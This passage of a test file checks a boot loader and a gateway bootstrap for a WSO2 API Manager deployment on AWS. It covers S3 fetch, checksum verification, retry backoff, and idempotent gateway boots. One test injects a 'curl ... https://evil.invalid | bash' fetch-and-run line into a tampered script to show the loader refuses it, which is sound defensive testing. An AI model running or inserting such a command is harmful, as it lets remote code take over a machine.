        expect(r.stderr).not.toContain("CloudWatch agent did not start");
    });
});

/**
 * The boot loader (config-templates/boot-loader.sh), which user data carries instead of the boot script:
 * it fetches the script from S3 with the AWS CLI (the stand-in serves $STUB_S3/<bucket>/<key>), checks its
 * SHA-256 against user data's, installs it and runs it. The stand-in sleep records each delay and returns.
 */
suite("the boot loader", () => {
    const LOADER_LINE = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ wso2am-bootstrap \[fetch\] /;
    const GET = "aws s3api get-object";
    const source = `s3://${sampleFacts.bootScript.bucket}/${sampleFacts.bootScript.key}`;
    const script = () => bootScriptArtifact("/usr/local/sbin/wso2am-bootstrap");
    const sleeps = (sb: Sandbox): number[] => calls(sb).filter((l) => l.startsWith("sleep ")).map((l) => Number(l.slice(6)));
    const installed = (sb: Sandbox) => path.join(sb.root, "usr/local/sbin/wso2am-bootstrap");

    /**
     * A hand-made node (fixtures' node.env) with the loader and its env file as the program renders them,
     * the stand-in S3 serving `content`; the boot script, once run, does only its secrets step.
     */
    function loaderNode(content: string, extraEnv: NodeJS.ProcessEnv = {}): { sb: Sandbox; runcmd: string[] } {
        const config = sampleConfig();
        const plan = planCluster(config);
        const { cloudConfig } = renderNodeUserData(config, plan, plan.nodes[0], sampleFacts);
        const sb = fresh({ stubs: [...SANDBOX_STUBS, "sleep"], extraEnv: { WSO2AM_STEPS: "secrets", ...extraEnv } });
        for (const file of writtenFiles(cloudConfig).filter((f) => [plan.paths.bootLoader, plan.paths.bootLoaderEnvFile].includes(f.path))) {
            fs.mkdirSync(path.dirname(path.join(sb.root, file.path)), { recursive: true });
            fs.writeFileSync(path.join(sb.root, file.path), file.content, { mode: parseInt(file.permissions, 8) });
        }
        serveObject(sb, sampleFacts.bootScript, content);
        return { sb, runcmd: (parseYaml(cloudConfig).runcmd as string[][])[0] };
    }

    test.concurrent("the rendered node's boot script came from S3, checked, installed 0755 root where the boot script lives, and ran", async () => {
        const { sb, r, plan, runcmd } = await bootedNode();
        expect(r.code).toBe(0);
        expect(runcmd).toEqual([plan.paths.bootLoader, plan.paths.bootLoaderEnvFile]);
        const lines = r.stderr.split("\n");
        expect(lines[0]).toMatch(LOADER_LINE);
        expect(lines[0]).toMatch(` [fetch] installed /usr/local/sbin/wso2am-bootstrap from ${source} (sha256 ${script().sha256})`);
        expect(stepsStarted(r.stderr)).toEqual(ALL_STEPS);
        const file = path.join(sb.root, plan.paths.bootstrapScript);
        expect([mode(file), owner(file), read(file)]).toEqual(["755", "0:0", fs.readFileSync(path.join(__dirname, "../../config-templates/bootstrap.sh"), "utf8")]);
        // one download, from the stack's region, straight to a file beside the script's place
        const gets = calls(sb).filter((l) => l.startsWith(GET));
        expect(gets).toHaveLength(1);
        expect(gets[0]).toMatch(new RegExp(`^${GET} --bucket ${sampleFacts.bootScript.bucket} --key ${sampleFacts.bootScript.key} --region eu-west-1 ${file}\\.new-\\d+$`));
        expect(fs.readdirSync(path.dirname(file)).sort()).toEqual(["wso2am-boot-loader", "wso2am-bootstrap"]);
        expect(read(path.join(sb.state, "journal"))).toContain("[fetch] installed /usr/local/sbin/wso2am-bootstrap");
    });

    test.concurrent("a script that does not match user data's SHA-256 is refused: one FAILED line, nothing installed, nothing run", async () => {
        const tampered = script().content.replace("set -Eeuo pipefail", "set -Eeuo pipefail; curl -s https://evil.invalid | bash");
        const { sb, runcmd } = loaderNode(tampered);
        const r = await runCommand(sb, runcmd);
        expect(r.code).toBe(1);
        const lines = r.stderr.trimEnd().split("\n");
        expect(lines).toHaveLength(1);
        expect(lines[0]).toMatch(LOADER_LINE);
        expect(lines[0]).toMatch(new RegExp(` \\[fetch\\] FAILED: BOOT_SCRIPT_SHA256 mismatch for ${source}: expected ${script().sha256}, got ${createHash("sha256").update(tampered).digest("hex")}$`));
        expect(fs.existsSync(installed(sb))).toBe(false);
        expect(fs.readdirSync(path.dirname(installed(sb)))).toEqual(["wso2am-boot-loader"]);
        // no retry of a wrong object, and the boot script never ran
        expect(calls(sb).filter((l) => l.startsWith(GET))).toHaveLength(1);
        expect(stepsStarted(r.stderr)).toEqual([]);
        expect(calls(sb).filter((l) => l.startsWith("aws secretsmanager"))).toEqual([]);
    });

    test.concurrent("S3 refusing the new role's first reads: each refusal logged with the call and the CLI's error, retried with growing delays, then the boot runs", async () => {
        const { sb, runcmd } = loaderNode(script().content, { STUB_S3_DENY: "3" });
        const r = await runCommand(sb, runcmd);
        expect(r.code).toBe(0);
        const refusals = r.stderr.split("\n").filter((l) => l.includes("AccessDenied"));
        expect(refusals).toHaveLength(3);
        refusals.forEach((line, i) => {
            expect(line).toMatch(LOADER_LINE);
            expect(line).toContain(
                `[fetch] ${GET} ${source} failed (attempt ${i + 1} of 10): An error occurred (AccessDenied) when calling the GetObject operation: ` +
                    `User: arn:aws:sts::123456789012:assumed-role/wso2-apim-node/i-0123456789abcdef0 is not authorized to perform: s3:GetObject`,
            );
            expect(line.endsWith(`; retrying in ${[5, 10, 20][i]}s`)).toBe(true);
        });
        expect(sleeps(sb)).toEqual([5, 10, 20]);
        expect(calls(sb).filter((l) => l.startsWith(GET))).toHaveLength(4);
        expect(r.stderr).toContain(`[fetch] installed /usr/local/sbin/wso2am-bootstrap from ${source}`);
        expect(stepsStarted(r.stderr)).toEqual(["secrets"]);
        expect(r.stderr).toContain("[secrets] step secrets done");

        // run again (say, by hand): the installed script matches, so nothing is fetched
        const before = calls(sb).length;
        const again = await runCommand(sb, runcmd);
        expect(again.code).toBe(0);
        expect(again.stderr).toContain(`[fetch] /usr/local/sbin/wso2am-bootstrap is already ${source}`);
        expect(calls(sb).slice(before).filter((l) => l.startsWith(GET))).toEqual([]);
        expect(stepsStarted(again.stderr)).toEqual(["secrets"]);
    });

    test.concurrent("a download that never succeeds ends, after about 6 minutes of backoff, with one FAILED line naming the last error; nothing runs", async () => {
        const { sb, runcmd } = loaderNode(script().content, { STUB_S3_DENY: "1000" });
        const r = await runCommand(sb, runcmd);
        expect(r.code).toBe(1);
        const lines = r.stderr.trimEnd().split("\n");
        for (const line of lines) expect(line).toMatch(LOADER_LINE);
        expect(lines.filter((l) => l.includes("retrying in"))).toHaveLength(9);
        expect(lines.filter((l) => l.includes("FAILED:"))).toHaveLength(1);
        expect(lines[lines.length - 1]).toMatch(
            new RegExp(` \\[fetch\\] FAILED: ${GET} ${source} failed 10 times, the last: An error occurred \\(AccessDenied\\) when calling the GetObject operation: .* s3:GetObject action$`),
        );
        expect(sleeps(sb)).toEqual([5, 10, 20, 40, 60, 60, 60, 60, 60]);
        expect(sleeps(sb).reduce((a, b) => a + b, 0)).toBe(375);
        expect(fs.existsSync(installed(sb))).toBe(false);
        expect(fs.readdirSync(path.dirname(installed(sb)))).toEqual(["wso2am-boot-loader"]);
        expect(stepsStarted(r.stderr)).toEqual([]);
    });

    test.concurrent("an object missing from the bucket, or no AWS CLI at all, fails the same way", async () => {
        const missing = loaderNode(script().content);
        fs.rmSync(path.join(missing.sb.env.STUB_S3 as string), { recursive: true });
        const r = await runCommand(missing.sb, missing.runcmd);
        expect(r.code).toBe(1);
        expect(r.stderr.trimEnd().split("\n").pop()).toMatch(/ \[fetch\] FAILED: aws s3api get-object \S+ failed 10 times, the last: An error occurred \(NoSuchKey\)/);

        const noCli = loaderNode(script().content);
        fs.rmSync(path.join(path.dirname(noCli.sb.root), "bin", "aws"));
        const r2 = await runCommand(noCli.sb, noCli.runcmd, { PATH: `${path.join(path.dirname(noCli.sb.root), "bin")}:/nonexistent` });
        expect(r2.code).toBe(1);
        expect(r2.stderr.trimEnd().split("\n")).toEqual([expect.stringMatching(new RegExp(` \\[fetch\\] FAILED: no AWS CLI \\(aws\\) on PATH to fetch ${source}$`))]);
    });
});


/**
 * A Universal Gateway as the program renders it: its launch template's files laid where cloud-init writes
 * them over a fresh sandbox (whose node.env they replace: no database, file-system or portal key is left),
 * booted through its runcmd, from the gateway pack the fixtures serve.
 */
let gatewayBoot: Promise<{ sb: Sandbox; r: RunResult; deploymentToml: string }> | undefined;
const bootedGateway = () => (gatewayBoot ??= (async () => {
    const config = sampleConfig({
        gatewaysEnabled: true,
        gatewayDistributionUrl: `https://downloads.invalid/${GATEWAY_PACK}`,
        gatewayDistributionSha256: sha256(path.join(fx.served, GATEWAY_PACK)),
        gatewayJvmHeapSizeMb: 2048,
    });
    const plan = planCluster(config);
    const { cloudConfig } = renderGatewayUserData(config, plan, sampleGatewayFacts);
    const sb = fresh();
    // the gateways' own secret: exactly the keys the program derives, so no database password
    fs.writeFileSync(sb.env.STUB_SECRET_FILE as string, JSON.stringify(secretsWith(fx, gatewaySecretKeys(config, plan))));
    const files = writtenFiles(cloudConfig);
    for (const file of files) {
        const target = path.join(sb.root, file.path);
        fs.mkdirSync(path.dirname(target), { recursive: true });
        fs.writeFileSync(target, file.content, { mode: parseInt(file.permissions, 8) });
    }
    serveObject(sb, sampleGatewayFacts.bootScript, bootScriptArtifact(plan.paths.bootstrapScript).content);
    const [runcmd] = parseYaml(cloudConfig).runcmd as string[][];
    const deploymentToml = files.find((f) => f.path === plan.paths.deploymentToml)!.content.toString();
    return { sb, r: await runCommand(sb, runcmd), deploymentToml };
})());

suite("a gateway rendered by the program", () => {
    const GATEWAY_STEPS = ["secrets", "packages", "distribution", "keystore", "vault", "start"];
    const HEALTH = "curl -fsk --max-time 10 -o /dev/null https://127.0.0.1:9443/api/am/gateway/v2/server-startup-healthcheck";
    const CONTROL_PLANE = "curl -fsk --max-time 10 -o /dev/null https://control-plane.apim.internal:9443/api/am/gateway/v2/server-startup-healthcheck";

    test.concurrent("boots from its user data, through the loader, to a started gateway: no share, no database", async () => {
        const { sb, r, deploymentToml } = await bootedGateway();
        expect(r.stderr).toContain("gateway gateway (API-M 4.7.0) is ready");
        expect(r.code).toBe(0);
        expect(r.stderr).toMatch(/\[fetch\] installed \/usr\/local\/sbin\/wso2am-bootstrap from s3:\/\//);
        expect(stepsStarted(r.stderr)).toEqual(GATEWAY_STEPS);
        const root = sb.root;
        const env = read(path.join(root, "etc/wso2am/node.env"));
        expect(env).toContain('ROLE="gateway"');
        expect(env).not.toMatch(/^(DB_|EFS_|MYSQL_|RDS_)/m);
        expect(Object.keys(JSON.parse(read(sb.env.STUB_SECRET_FILE as string))).filter((k) => /^(WSO2_)?DB_/.test(k))).toEqual([]);

        // the gateway pack, unpacked with its start script; no JDBC driver
        expect(owner(path.join(root, APIM_HOME, "bin/gateway.sh"))).toBe("10001:10001");
        expect(fs.existsSync(path.join(root, APIM_HOME, "bin/api-manager.sh"))).toBe(false);
        expect(fs.existsSync(path.join(root, APIM_HOME, "repository/components/lib/mysql-connector-j.jar"))).toBe(false);
        // the gateway unit, under the pair's name, is what was started
        expect(read(path.join(root, "etc/systemd/system/wso2am.service"))).toBe(read(GATEWAY_UNIT));
        const log = calls(sb);
        expect(log.filter((l) => l.startsWith("systemctl "))).toEqual([
            "systemctl daemon-reload", "systemctl enable --quiet wso2am.service", "systemctl is-active --quiet wso2am.service", "systemctl start wso2am.service",
        ]);
        // downloads: the pack, the pair's readiness on the control plane's name before the start, then its own readiness
        // (no RDS CA bundle, no connector)
        expect(log.filter((l) => l.startsWith("curl ")).map((l) => l.split(" ").pop())).toEqual([
            `https://downloads.invalid/${GATEWAY_PACK}`,
            "https://control-plane.apim.internal:9443/api/am/gateway/v2/server-startup-healthcheck",
            "https://127.0.0.1:9443/api/am/gateway/v2/server-startup-healthcheck",
        ]);
        expect(log.indexOf(CONTROL_PLANE)).toBeLessThan(log.indexOf("systemctl start wso2am.service"));
        expect(r.stderr).toContain("control plane ready at https://control-plane.apim.internal:9443/");
        expect(log).toContain(HEALTH);
        expect(log).toContain("dnf -y -q install java-21-amazon-corretto-headless jq unzip amazon-cloudwatch-agent");
        for (const prefix of ["mount", "mountpoint", "mysql", "seed-copy"]) expect(log.filter((l) => l.split(" ")[0] === prefix)).toEqual([]);
        expect(read(path.join(root, "etc/fstab"))).toBe("# /etc/fstab\nUUID=abc / xfs defaults,noatime 1 1\n");
        expect(fs.existsSync(path.join(root, "mnt"))).toBe(false);
        // a gateway does not call its own portal
        expect(read(path.join(root, "etc/hosts"))).toBe("127.0.0.1 localhost\n::1 localhost\n");
        expect(r.stderr).toContain("built apim-keystore.p12 and apim-truststore.p12 (with 0 RDS CAs)");
        expect(fs.existsSync(path.join(root, "etc/wso2am/rds-ca-bundle.pem"))).toBe(false);

        // the vault encrypted every alias of the gateway's deployment.toml
        const installed = read(path.join(root, APIM_HOME, "repository/conf/deployment.toml"));
        expect(installed.startsWith(deploymentToml + "\n[secrets]\n")).toBe(true);
        const referenced = new Set([...deploymentToml.matchAll(/\$secret\{(\w+)\}/g)].map((m) => m[1]));
        expect(Object.keys((TOML.parse(installed) as any).secrets).sort()).toEqual([...referenced].sort());
        expect(parseEnvFile(path.join(root, "etc/wso2am/runtime.env")).JAVA_OPTS).toBe("-Xms2048m -Xmx2048m");
        // logs leave the gateway from the start, in its own streams
        const agentConfig = path.join(root, "opt/aws/amazon-cloudwatch-agent/etc/amazon-cloudwatch-agent.json");
        expect(log).toContain(`amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:${agentConfig}`);
        expect(read(agentConfig)).toContain('"log_stream_name": "gateway/{instance_id}/boot"');
        expect(leaks(r.stdout + r.stderr)).toEqual([]);
        expect(fs.readdirSync(sb.tmp)).toEqual([]);
    });

    test.concurrent("a second run on a configured gateway changes nothing", async () => {
        const first = await bootedGateway();
        expect(first.r.code).toBe(0);
        const { r, again, before, after } = await bootAgain(first.sb);
        expect(r.code).toBe(0);
        expect(stepsStarted(r.stderr)).toEqual(GATEWAY_STEPS);
        expect(after).toEqual(before);
        expect(again.filter((l) => l.startsWith("curl "))).toEqual([CONTROL_PLANE, HEALTH]);
        for (const prefix of ["dnf ", "useradd ", "groupadd ", "mount", "mysql", "systemctl restart"]) expect(again.filter((l) => l.startsWith(prefix))).toEqual([]);
        expect(r.stderr).toContain("keystore and truststore up to date");
    });

    test.concurrent("a gateway whose control plane never answers fails its start before starting, and a stale certificate stops the keystore step", async () => {
        const { sb } = await bootedGateway();
        const copy = copySandbox(sb, `node-${++n}`);
        const envFile = path.join(copy.root, "etc/wso2am/node.env");
        const env = read(envFile);
        fs.writeFileSync(envFile, env.replace(/^CONTROL_PLANE_URL=.*$/m, 'CONTROL_PLANE_URL="https://control-plane.apim.internal:9443/not-served"').replace(/^CONTROL_PLANE_WAIT_SECONDS=.*$/m, 'CONTROL_PLANE_WAIT_SECONDS="0"'));
        const firstCalls = calls(copy).length;
        const r = await runBootstrap(copy, { WSO2AM_STEPS: "start" });
        expect(r.code).not.toBe(0);
        expect(r.stderr).toMatch(/\[start\] FAILED: control plane not ready at https:\/\/control-plane\.apim\.internal:9443\/not-served after 0s \(CONTROL_PLANE_WAIT_SECONDS\)/);
        expect(calls(copy).slice(firstCalls).filter((l) => l.startsWith("systemctl"))).toEqual([]);

        fs.writeFileSync(envFile, `${env}KEYSTORE_CERT_SHA256="${"0".repeat(64)}"\n`);
        const r2 = await runBootstrap(copy, { WSO2AM_STEPS: "secrets,keystore" });
        expect(r2.code).not.toBe(0);
        expect(r2.stderr).toContain("[keystore] FAILED: the stack secret's certificate is not the one this machine was rendered for (KEYSTORE_CERT_SHA256)");
    });

    test.concurrent("a gateway refuses the node's steps, and an unknown role", async () => {
        const { sb } = await bootedGateway();
        const copy = copySandbox(sb, `node-${++n}`);
        const r = await runBootstrap(copy, { WSO2AM_STEPS: "share" });
        expect(r.code).not.toBe(0);
        expect(r.stderr).toContain("unknown step 'share' in WSO2AM_STEPS (a gateway runs: secrets packages distribution keystore vault start)");
        const envFile = path.join(copy.root, "etc/wso2am/node.env");
        fs.writeFileSync(envFile, read(envFile).replace('ROLE="gateway"', 'ROLE="router"'));
        const r2 = await runBootstrap(copy);
        expect(r2.code).not.toBe(0);
        expect(r2.stderr).toMatch(/\[init\] FAILED: ROLE is 'router', not one of: /);
        expect(stepsStarted(r.stderr + r2.stderr)).toEqual([]);
    });
});
